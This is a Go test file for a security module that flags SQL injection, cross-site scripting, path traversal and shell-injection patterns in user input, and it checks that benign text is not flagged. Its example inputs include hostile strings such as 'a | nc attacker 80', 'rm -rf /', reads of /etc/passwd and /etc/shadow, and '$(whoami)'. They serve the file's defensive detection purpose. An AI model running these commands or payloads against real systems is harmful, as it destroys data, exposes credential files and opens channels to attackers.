package security

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestSignatures_EachSignatureMatchesItsExample(t *testing.T) {
	examples := map[string][]string{
		"sql_keywords": {
			"1 UNION SELECT password FROM users",
			"select * from accounts",
			"'; DROP TABLE users",
			"insert into logs values (1)",
			"update users set role='admin'",
			"delete from sessions where 1",
			"EXEC(xp_cmdshell)",
		},
		"sql_comment":          {"admin' -- ", "name /* hidden */", "x'--"},
		"sql_boolean":          {"' OR 1=1", "\" or \"a\"=\"a", "x' AND 'x'='x"},
		"script_tag":           {"<script>alert(1)</script>", "<SCRIPT src=x>", "< script>", "</script >"},
		"javascript_uri":       {"javascript:alert(1)", "JaVaScRiPt :void(0)", "vbscript:msgbox"},
		"event_handler":        {"<img src=x onerror=alert(1)>", "\" onmouseover=\"steal()", "<body onload = go()>"},
		"embedded_object":      {"<iframe src=evil>", "<object data=x>", "<EMBED src=y>"},
		"path_traversal":       {"../../etc/passwd", "..\\windows\\system32", "%2e%2e%2fetc", "..%2F..%2F", "%252e%252e%252f"},
		"shell_metachar":       {"file.txt; rm -rf /", "x && cat /etc/passwd", "a | nc attacker 80", "; whoami"},
		"command_substitution": {"$(whoami)", "`id`", "echo $(cat /etc/shadow)"},
	}

	for _, sig := range Signatures() {
		cases, ok := examples[sig.ID]
		if !assert.True(t, ok, "missing examples for %s", sig.ID) {
			continue
		}
		for _, input := range cases {
			assert.True(t, sig.Pattern.MatchString(input), "%s should match %q", sig.ID, input)
		}
	}
}

func TestDetectPatterns_BenignInput(t *testing.T) {
	benign := []string{
		"",
		"Hello, I'd like to talk about your portfolio.",
		"Tom & Jerry cost $5",
		"Let's meet on Monday or Tuesday",
		"email me at someone@example.com",
		"path/to/file.txt",
		"I love my onion rings",
	}

	for _, input := range benign {
		assert.Empty(t, DetectPatterns(input), "unexpected match for %q", input)
	}
}

func TestDetectPatterns_OrderFollowsTable(t *testing.T) {
	input := "<script>x</script> ' OR 1=1 -- "

	assert.Equal(t, []string{"sql_comment", "sql_boolean", "script_tag"}, DetectPatterns(input))
}

func TestDetectPatterns_NeverPanics(t *testing.T) {
	inputs := []string{
		"\x00\x00\x00",
		"([{*+?^$|\\",
		"\xff\xfe invalid utf8",
		strings.Repeat("a", 100000),
		strings.Repeat("(", 5000),
	}

	for _, input := range inputs {
		assert.NotPanics(t, func() { DetectPatterns(input) })
	}
}

func TestTierOf(t *testing.T) {
	assert.Equal(t, TierHigh, TierOf("sql_keywords"))
	assert.Equal(t, TierHigh, TierOf("script_tag"))
	assert.Equal(t, TierMedium, TierOf("path_traversal"))
	assert.Equal(t, RiskTier(0), TierOf("nope"))
}

func TestSignatures_ReturnsCopy(t *testing.T) {
	sigs := Signatures()
	sigs[0].ID = "changed"

	assert.Equal(t, "sql_keywords", Signatures()[0].ID)
}
